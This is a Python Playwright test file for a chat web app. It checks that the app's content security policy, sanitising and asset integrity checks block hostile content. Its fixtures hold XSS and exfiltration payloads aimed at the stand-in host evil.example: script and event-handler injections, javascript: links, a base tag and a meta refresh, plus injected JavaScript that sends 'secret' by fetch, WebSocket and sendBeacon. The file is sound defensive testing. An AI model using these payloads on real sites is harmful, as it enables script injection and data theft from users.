"""What the page runs and loads, whatever a model or a server puts into it (A39, A44, A45, A47)."""

import re
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from balon.middleware import CONTENT_SECURITY_POLICY
from tests.browser.person import Person
from tests.fakes.openai_server import FakeOpenAIServer, Script
from tests.stack.fixtures import Watch
from tests.stack.wiretap import Wiretap

HOSTILE = """\
![pixel](https://evil.example/p.png?q=secret) <img src="https://evil.example/i.png" onerror="window.balonHit=1">
<script>window.balonHit=2</script><svg onload="window.balonHit=3"></svg><iframe src="https://evil.example"></iframe>

[click](javascript:window.balonHit=4) [data](data:text/html,<script>1</script>)
<style>@import url(https://evil.example/s.css)</style><form action="https://evil.example"><input name="x"></form>

<link rel="prefetch" href="https://evil.example/l"><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">

The end of it.
"""
POLICY = {
    "default-src": "'none'",
    "script-src": "'self' 'wasm-unsafe-eval'",
    "worker-src": "'self' blob:",
    "connect-src": "'self'",
    "style-src": "'self'",
    "img-src": "'self' blob: data:",
    "font-src": "'self'",
    "form-action": "'self'",
    "base-uri": "'none'",
    "frame-ancestors": "'none'",
}
INJECT = """() => {
    const blocked = [];
    document.addEventListener("securitypolicyviolation", (event) => blocked.push(event.effectiveDirective));
    const add = (name, set) => document.body.append(Object.assign(document.createElement(name), set));
    add("script", {textContent: "window.balonHit = 'inline'"});
    add("script", {src: "https://evil.example/x.js"});
    add("img", {src: "https://evil.example/x.png"});
    document.body.insertAdjacentHTML("beforeend", "<p onclick='window.balonHit = 1' id='balon-hit'></p>");
    document.getElementById("balon-hit").click();
    try { setTimeout("window.balonHit = 'eval'", 0); } catch { blocked.push("timer"); }
    fetch("https://evil.example/x").catch(() => {});
    try { new WebSocket("wss://evil.example/x"); } catch { blocked.push("socket"); }
    navigator.sendBeacon("https://evil.example/x", "secret");
    return new Promise((resolve) => setTimeout(() => resolve([...new Set(blocked)].sort()), 300));
}"""


def test_a_hostile_reply_and_a_hostile_question_load_and_run_nothing(
    alice: Person, upstream: FakeOpenAIServer, wiretap: Wiretap
) -> None:
    """The watch of the fixture fails on any request that leaves loopback, and on any refusal by the policy."""
    upstream.script = Script.of(*HOSTILE.splitlines(keepends=True))
    alice.send(HOSTILE)
    reply = alice.expect_reply("The end of it.")
    for place in (reply, alice.articles("You").last):
        elements = "img, script, svg:not([aria-hidden]), iframe, style, form, link, base, meta, [onerror], [onload]"
        assert place.locator(".body").locator(elements).count() == 0
    links = [each.get_attribute("href") or "" for each in reply.locator(".body a").all()]
    assert not [link for link in links if not link.startswith(("https:", "http:", "mailto:"))]
    assert alice.page.evaluate("window.balonHit ?? null") is None
    assert b"evil" not in wiretap.all_bytes()


def test_every_answer_carries_the_one_policy(alice: Person, wiretap: Wiretap) -> None:
    directives = dict(part.strip().split(" ", 1) for part in CONTENT_SECURITY_POLICY.split(";"))
    assert directives == POLICY
    alice.page.goto("/")
    alice.wait_for_core()
    while not wiretap.requests("GET", "/session"):
        alice.page.wait_for_timeout(20)
    answers = [each for each in wiretap.requests("GET") if each.status]
    assert {"/", "/api/v1/session"} <= {each.path for each in answers}
    for answer in answers:
        assert CONTENT_SECURITY_POLICY in answer.answer_headers, answer.path
        assert "no-referrer" in answer.answer_headers
        assert "nosniff" in answer.answer_headers


def test_the_policy_stops_inline_foreign_and_evaluated_code(alice: Person, watch: Watch) -> None:
    watch.expect("Content Security Policy")
    watch.expect("request off loopback: https://evil.example")  # Playwright counts what was blocked before it left.
    watch.expect("ERR_BLOCKED_BY_CSP")
    watch.expect("Refused to")
    watch.expect("violates")
    blocked = alice.page.evaluate(INJECT)
    assert {"script-src-elem", "img-src", "connect-src", "script-src-attr"} <= set(blocked), blocked
    assert alice.page.evaluate("window.balonHit ?? null") is None


def _assets(page: Page) -> dict[str, str]:
    """Each file that the page loads by itself, by kind."""
    html = page.request.get("/").text()
    scripts = re.findall(r'<script type="module" src="([^"]+)" integrity="sha384-[\w+/=]+"', html)
    styles = re.findall(r'<link rel="stylesheet" href="([^"]+)" integrity="sha384-[\w+/=]+"', html)
    assert len(scripts) == html.count("<script")
    assert len(styles) == html.count('rel="stylesheet"')
    return {"script": scripts[0], "style": styles[0]}


@pytest.mark.parametrize("kind", ["script", "style", "wasm", "client", "stdlib"])
def test_an_altered_asset_is_not_used(kind: str, page: Page, wiretap: Wiretap, watch: Watch) -> None:
    for text in (
        "integrity",
        "Failed to",
        "core-failed",
        "time-out",
        "TypeError",
        "Error",
        "MessageEvent",
        "did not start",
        "console:",  # Pyodide prints the whole state of a Python that could not begin.
    ):
        watch.expect(text)
    endings = {"wasm": ".wasm", "client": "client-", "stdlib": "stdlib-"}
    own = _assets(page)
    ending = own.get(kind, endings.get(kind, ""))
    lie = wiretap.lie("GET", lambda path: ending in path, lambda content: content + b" ", raw=True)
    page.goto("/")
    if kind == "script":
        expect(page.get_by_role("button", name="Sign in")).to_have_count(0)
        assert page.locator("html").get_attribute("data-core") == "loading"
    elif kind == "style":
        expect(page.get_by_role("button", name="Sign in")).to_be_visible()
        assert page.evaluate("[...document.styleSheets].length") == 0
    else:
        expect(page.locator("html")).to_have_attribute("data-core", "failed", timeout=30_000)
    assert lie.used


def test_the_shell_is_the_same_for_everyone(alice: Person, page: Page) -> None:
    assert alice.page.request.get("/").body() == page.request.get("/").body()
    shell = (Path(__file__).parents[2] / "templates" / "page.html").read_text()
    assert not re.search(r"<script(?![^>]*\bsrc=)|\son\w+=|\sstyle=|javascript:", shell)
